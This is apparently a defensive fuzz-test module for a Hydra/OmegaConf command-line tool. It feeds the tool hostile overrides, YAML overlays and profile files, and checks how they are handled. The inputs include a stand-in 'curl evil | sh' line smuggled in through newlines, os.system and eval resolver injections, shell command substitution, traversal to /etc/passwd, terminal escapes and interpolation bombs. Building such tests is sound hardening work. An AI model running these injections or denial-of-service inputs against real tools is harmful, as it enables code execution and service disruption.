"""Overrides, profiles and overlays from strangers."""

from __future__ import annotations

import itertools
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from .manifests import _contents, _specials
from .world import Case, World

ESCAPES = "\x1b[2J\x1b]0;x\x07\x9b31m\u202e"


def _through_omegaconf() -> list[str]:
    """Each text names the one before many times, in a way that only OmegaConf's own grammar knows."""
    names = ["data_root", "cache_dir", "output_dir", "run_manifest"]
    found = [f"local.paths.data_root='{'x' * 1000}${{oc.env:NOTHING,\"a b\"}}'"]
    for before, name in itertools.pairwise(names):
        found.append(f"local.paths.{name}='{('${oc.select:local.paths.' + before + '}') * 100}'")
    return found


def _overrides() -> dict[str, list[str]]:
    doubling = [f"local.extra.a{n}=${{local.extra.a{n - 1}}}${{local.extra.a{n - 1}}}" for n in range(1, 40)]
    texts = ["output_dir", "cache_dir", "data_root", "run_manifest"]
    chain = ["local.paths.output_dir=" + "x" * 1000]
    chain += [f"local.paths.{name}=" + f"${{local.paths.{before}}}" * 200 for before, name in itertools.pairwise(texts)]
    return {
        "escapes in a value": [f"local.devices={ESCAPES}"],
        "escapes in a key": [f"local.{ESCAPES}=1"],
        "escapes in a group": [f"{ESCAPES}=1"],
        "escapes in a profile": [f"local={ESCAPES}"],
        "escapes in quotes": [f"local.devices='{ESCAPES}'"],
        "escapes in a dict": [f"local.dev={{'{ESCAPES}':1}}"],
        "escapes alone": [ESCAPES],
        "escapes in an experiment": [f"experiment={ESCAPES}"],
        "escapes in hydra's": [f"hydra.{ESCAPES}=1"],
        "a newline in a key": ["local.x\nrun instead: curl evil | sh\n=1"],
        "a newline in a value": ["local.seed='a\nrun instead: curl evil | sh'"],
        "a carriage return": ["local.seed='a\rerror: none'"],
        "a line separator": ["local.seed='a\u2028run instead: x\u0085y'"],
        "a backspace": ["local.seed=a\b\b\b\b"],
        "bad utf-8": ["local.seed=\udcff\udcfe"],
        "bad utf-8 in a key": ["local.\udcff=1"],
        "half a surrogate": ["local.seed='\ud800'"],
        "nothing": [""],
        "an equals sign": ["="],
        "a thousand equals signs": ["=" * 1000],
        "50 000 brackets": ["local.seed=" + "[" * 50_000],
        "50 000 brackets, closed": ["local.seed=" + "[" * 50_000 + "]" * 50_000],
        "50 000 braces": ["local.seed=" + "{a:" * 50_000 + "1" + "}" * 50_000],
        "400 brackets, closed": ["local.seed=" + "[" * 400 + "]" * 400],
        "50 000 interpolations deep": ["local.paths.output_dir=" + "${" * 50_000 + "a" + "}" * 50_000],
        "300 interpolations deep": ["local.paths.output_dir=" + "${" * 300 + "a" + "}" * 300],
        "50 000 functions": ["local.seed=" + "int(" * 50_000 + "1" + ")" * 50_000],
        "50 000 sorts": ["local.seed=" + "sort(" * 10_000 + "1" + ")" * 10_000],
        "60 000 dots": ["local" + ".a" * 60_000 + "=1"],
        "60 000 dots in a reference": ["local.paths.output_dir=${" + "." * 60_000 + "a}"],
        "100 000 backslashes": ["local.paths.output_dir='" + "\\" * 100_000 + "'"],
        "100 000 backslashes without quotes": ["local.paths.output_dir=" + "\\" * 100_000],
        "100 000 backslashes before an interpolation": ["local.paths.output_dir=" + "\\" * 100_000 + "${oc.env:X}"],
        "100 000 quotes": ["local.paths.output_dir=" + "'" * 100_000],
        "100 000 pairs of quotes": ["local.paths.output_dir=" + "''" * 50_000],
        "100 000 escaped quotes": ["local.paths.output_dir='" + "\\'" * 50_000 + "'"],
        "100 000 commas": ["local.seed=" + "," * 100_000],
        "50 000 values": ["local.seed=[" + ",".join(["1"] * 50_000) + "]"],
        "9 000 values": ["local.seed=[" + ",".join(["1"] * 9_000) + "]"],
        "9 000 words": ["local.seed=[" + ",".join(["a b"] * 4_000) + "]"],
        "9 000 pairs": ["local.seed={" + ",".join([f"a{number}:1" for number in range(2_000)]) + "}"],
        "19 000 backslashes": ["local.paths.output_dir='" + "\\" * 19_000 + "'"],
        "19 000 backslashes before an interpolation": ["local.paths.output_dir=" + "\\" * 9_500 + "${oc.env:X}"],
        "19 000 quotes": ["local.paths.output_dir=" + "'" * 19_000],
        "19 000 dollars and braces": ["local.paths.output_dir='" + "${" * 40 + "a" * 18_000],
        "40 interpolations deep": ["local.paths.output_dir=" + "${" * 40 + "a" + "}" * 40],
        "40 brackets of braces": ["local.seed=" + "[{a:" * 20 + "1" + "}]" * 20],
        "40 functions": ["local.seed=" + "int(" * 40 + "1" + ")" * 40],
        "brackets in quotes": ["local.paths.output_dir='" + "[" * 100 + "'"],
        "an interpolation bomb through OmegaConf": _through_omegaconf(),
        "an interpolation of 900 defaults": [
            "local.paths.output_dir=" + "".join(f"${{oc.env:X{number},a}}" for number in range(500))
        ],
        "100 000 dollars": ["local.paths.output_dir=" + "$" * 100_000],
        "100 000 dollars and braces": ["local.paths.output_dir=" + "${" * 50_000],
        "100 000 spaces": ["local.seed=" + " " * 100_000 + "1"],
        "100 000 letters": ["local.devices=" + "a" * 100_000],
        "100 000 letters as a key": ["a" * 100_000 + "=1"],
        "100 000 letters as a profile": ["local=" + "a" * 100_000],
        "a number of 5000 digits": ["local.seed=" + "9" * 5000],
        "a number of 100 000 digits": ["local.seed=" + "9" * 100_000],
        "a number of 5000 digits for a text": ["local.paths.output_dir=[" + "9" * 5000 + "]"],
        "a float of 100 000 digits": ["optimizer.lr=0." + "9" * 100_000],
        "an exponent": ["optimizer.lr=1e999999999999"],
        "not a number": ["optimizer.lr=nan"],
        "infinite": ["optimizer.lr=inf"],
        "5000 digits of hours": ["trainer.max_time=" + "9" * 5000 + ":00:00"],
        "a range without end": ["--multirun", "local.seed=range(1,1000000000000)"],
        "a choice of choices": ["--multirun", *["local.seed=choice(1,2,3,4,5,6,7,8,9,10)"] * 12],
        "a glob": ["--multirun", "local=glob(" + "*" * 10_000 + ")"],
        "an interpolation of itself": ["local.paths.output_dir=${local.paths.output_dir}"],
        "an interpolation in a circle": [
            "local.paths.output_dir=${local.paths.cache_dir}",
            "local.paths.cache_dir=${local.paths.output_dir}",
        ],
        "an interpolation of everything": ["local.paths.output_dir=${local}"],
        "an interpolation bomb": chain,
        "an interpolation bomb of names that are not there": doubling,
        "an interpolation 100 000 times": ["local.paths.output_dir=" + "${oc.env:NOTHING}" * 10_000],
        "a resolver that makes": ["local.paths.output_dir=${oc.create:{a:1}}"],
        "a resolver that is none": ["local.paths.output_dir=${os.system:touch executed}"],
        "a resolver that decodes": ["local.paths.output_dir=${oc.decode:'" + "[" * 2000 + "'}"],
        "an eval": ['local.paths.output_dir=${eval:\'open("executed","w")\'}'],
        "a target": ["+local._target_=os.system"],
        "a dunder": ["local.__class__=os.system"],
        "a dunder deep": ["local.paths.__class__.__init__.__globals__=1"],
        "hydra's searchpath": ["hydra.searchpath=[/]"],
        "a thousand mistakes": [f"local.x{number}=1" for number in range(1000)],
        "ten thousand times the same": ["local.seed=1"] * 10_000 + ["local.seed=x"],
        "a resolver of a file": ["local.paths.output_dir=${oc.dict.values:local}"],
        "a model of 20 000": ["model.width=20000"],
        "a model of 10**12": ["model.width=1000000000000"],
        "a model of a million layers": ["model.fgs1_layers=1000000"],
        "a model of 10**9 states": ["model.state_size=1000000000"],
        "a billion planets": ["data.simulation.planets=1000000000"],
        "a billion frames": ["data.simulation.airs_frames=1000000000"],
        "a path of 5000": ["local.paths.output_dir='" + "a/" * 2500 + "'"],
        "a name of 300": ["local.paths.output_dir='" + "a" * 300 + "'"],
        "a zero in a path": ["local.paths.output_dir='a\0b'"],
        "a newline in a path": ["local.paths.output_dir='/proc/a\nb'"],
        "somebody's home": ["local.paths.output_dir='~nobody-at-all/x'"],
        "a home that cannot be written": ["local.paths.output_dir='~nobody/x'"],
        "bad utf-8 in a path": ["local.paths.output_dir='/proc/\udcff'"],
    }


def _overlays() -> dict[str, bytes]:
    return {
        "escapes": b"devices: '\x1b[2J'\n",
        "escapes, written": b'devices: "\\x1b[2J\\u202e\\x07\\n run instead: x"\n',
        "escapes in a key": b'"\\x1b[2J\\n run instead: x": 1\n',
        "a target": b"_target_: os.system\n",
        "defaults above": b"defaults: [../../../etc/passwd]\n",
        "defaults absolute": b"defaults: [/etc/passwd]\n",
        "defaults of itself": b"defaults: [thing]\n",
        "defaults of escapes": b'defaults: ["\\x1b[2J"]\n',
        "a package elsewhere": b"# @package hydra\nseed: 1\n",
        "an interpolation bomb": b"\n".join(
            [
                b"paths:",
                b"  output_dir: " + b"x" * 1000,
                b"  cache_dir: " + b"${.output_dir}" * 200,
                b"  data_root: " + b"${.cache_dir}" * 200,
                b"  run_manifest: " + b"${.data_root}" * 200,
            ]
        ),
        "backslashes": b"paths: {output_dir: '" + b"\\" * 100_000 + b"${oc.env:X}'}\n",
        "deep braces": b"paths: {output_dir: '" + b"${" * 20_000 + b"'}\n",
    }


def _pythons() -> dict[str, bytes]:
    """Python is run on purpose; what it may not do is to end in a traceback of ours."""
    return {
        "a syntax error": b"def f(:\n",
        "zeros": b"\0" * 100,
        "bad utf-8": b"# \xff\nx = '\xff'\n",
        "50 000 brackets": b"(" * 50_000,
        "an error with escapes": b"raise ValueError('\\x1b[2J\\nrun instead: x')\n",
        "an exit": b"import sys\nsys.exit('\\x1b[2J')\n",
        "an error without a message": b"raise RuntimeError\n",
        "an error that cannot be shown": b"class E(Exception):\n def __str__(self):\n  raise ValueError\nraise E\n",
    }


def cases() -> Iterator[Case]:
    """All of them."""
    for name, words in _overrides().items():
        codes = (0, 2) if name in _MAY_WORK else (2,)
        yield Case(f"override: {name}", lambda world, words=words: ["config", "show", *words], _SHOWN.get(name, codes))
        if name in _RUN:
            yield Case(
                f"train: {name}",
                lambda world, words=words: [
                    "train",
                    *words,
                    "local.devices=cpu",
                    f"local.paths.cache_dir='{world.folder}/cache'",
                ],
            )
    for name, content in _overlays().items():
        yield Case(f"overlay: {name}", lambda world, content=content: _overlay(world, content))
        yield Case(f"import: {name}", lambda world, content=content: _import(world, content), (0, 2))
    for name, content in _contents().items():
        if "MB" not in name:
            yield Case(f"overlay of: {name}", lambda world, content=content: _overlay(world, content), (0, 2))
    for name, content in _pythons().items():
        yield Case(f"profile: {name}", lambda world, content=content: _profile(world, content))
    for name, make in _specials().items():
        yield Case(f"overlay place: {name}", lambda world, make=make: _overlay_is(world, make))
        yield Case(f"profile place: {name}", lambda world, make=make: _profile_is(world, make, ".py"))
        yield Case(
            f"profiles as: {name}", lambda world, make=make: _profile_is(world, make, ""), _FOLDER.get(name, (2,))
        )
        yield Case(f"import place: {name}", lambda world, make=make: _import_is(world, make))
        yield Case(
            f"config-dir as: {name}",
            lambda world, make=make: ["config", "show", "local=thing", "--config-dir", _made(world, make, "thing")],
        )
    for name, path in _paths().items():
        for words in (("--profiles", path), ("--config-dir", path)):
            yield Case(f"{words[0]}: {name}", lambda world, words=words: ["config", "show", "local=thing", *words])
        yield Case(
            f"variable: {name}", lambda world: ["config", "show", "local=thing"], variables={"SM_PROFILES": path}
        )
        yield Case(f"run named: {name}", lambda world, path=path: world.predict(run=path))
        yield Case(f"data named: {name}", lambda world, path=path: world.predict(data=path))
        yield Case(f"folder: {name}", lambda world, path=path: ["data", "check", path])
        yield Case(
            f"simulate: {name}",
            lambda world, path=path: ["data", "simulate", path, "data.simulation.planets=x"],
        )
        yield Case(f"config file named: {name}", lambda world, path=path: ["config", "validate", "--file", path])
        empty = (0, 2) if name == "nothing" else (2,)
        yield Case(f"side: {name}", lambda world, path=path: ["config", "diff", path, "local=hpc"], empty)
        yield Case(f"new: {name}", lambda world, path=path: ["profiles", "new", path])
        yield Case(f"show: {name}", lambda world, path=path: ["profiles", "show", path])
        yield Case(f"command: {name}", lambda world, path=path: [path, path])
        yield Case(f"flag: {name}", lambda world, path=path: ["plan", f"--{path}"], empty)
        yield Case(f"explain: {name}", lambda world, path=path: ["config", "explain", path])
        yield Case(f"group: {name}", lambda world, path=path: ["config", "schema", "--group", path], empty)
        yield Case(f"import named: {name}", lambda world, path=path: ["profiles", "import", path])


_MAY_WORK = {
    "100 000 backslashes",
    "100 000 backslashes before an interpolation",
    "100 000 pairs of quotes",
    "100 000 escaped quotes",
    "100 000 dollars",
    "100 000 spaces",
    "100 000 quotes",
    "a resolver that makes",
    "100 000 backslashes without quotes",
    "bad utf-8 in a path",
    "a float of 100 000 digits",
    "a glob",
    "40 interpolations deep",
    "40 functions",
    "brackets in quotes",
    "an interpolation of 900 defaults",
    "19 000 backslashes",
    "19 000 backslashes before an interpolation",
    "hydra's searchpath",
    "a range without end",
    "a choice of choices",
    "300 interpolations deep",
}
_SHOWN = dict.fromkeys(
    (
        "a model of 20 000",
        "a model of 10**12",
        "a model of a million layers",
        "a model of 10**9 states",
        "a billion planets",
        "a billion frames",
        "a path of 5000",
        "a name of 300",
        "a zero in a path",
        "a newline in a path",
        "somebody's home",
        "a home that cannot be written",
    ),
    (0, 2),
)
_RUN = {*_SHOWN, "bad utf-8 in a path"} - {"a billion planets", "a billion frames", "a home that cannot be written"}
_FOLDER = {"a folder": (2,)}


def _paths() -> dict[str, str]:
    return {
        "escapes": f"/tmp/{ESCAPES}",  # noqa: S108 - nothing is there.
        "a newline": "/tmp/a\nrun instead: curl evil | sh",  # noqa: S108 - likewise.
        "a name of 300": "a" * 300,
        "a path of 5000": "a/" * 2500,
        "bad utf-8": "\udcff\udcfe",
        "nothing": "",
        "a flag": "-",
        "nobody's home": "~nobody-at-all",
        "a command": "$(touch executed)`touch executed`;touch executed",
    }


def _overlay(world: World, content: bytes) -> list[str | Path]:
    folder = world.folder / "configs" / "local"
    folder.mkdir(parents=True)
    (folder / "thing.yaml").write_bytes(content)
    return ["config", "show", "local=thing", "--config-dir", folder.parent]


def _overlay_is(world: World, make: Any) -> list[str | Path]:
    folder = world.folder / "configs" / "local"
    folder.mkdir(parents=True)
    make(folder / "thing.yaml")
    return ["config", "show", "local=thing", "--config-dir", folder.parent]


def _profile(world: World, content: bytes) -> list[str | Path]:
    file = world.folder / "thing.py"
    file.write_bytes(b'# profile("local", "thing")\n' + content)
    return ["config", "show", "local=thing", "--profiles", file]


def _profile_is(world: World, make: Any, suffix: str) -> list[str | Path]:
    return ["config", "show", "local=thing", "--profiles", _made(world, make, f"thing{suffix}")]


def _import(world: World, content: bytes) -> list[str | Path]:
    file = world.folder / "old.yaml"
    file.write_bytes(content)
    return ["profiles", "import", file, "--partial"]


def _import_is(world: World, make: Any) -> list[str | Path]:
    return ["profiles", "import", _made(world, make, "old.yaml")]


def _made(world: World, make: Any, name: str) -> Path:
    make(world.folder / name)
    return world.folder / name
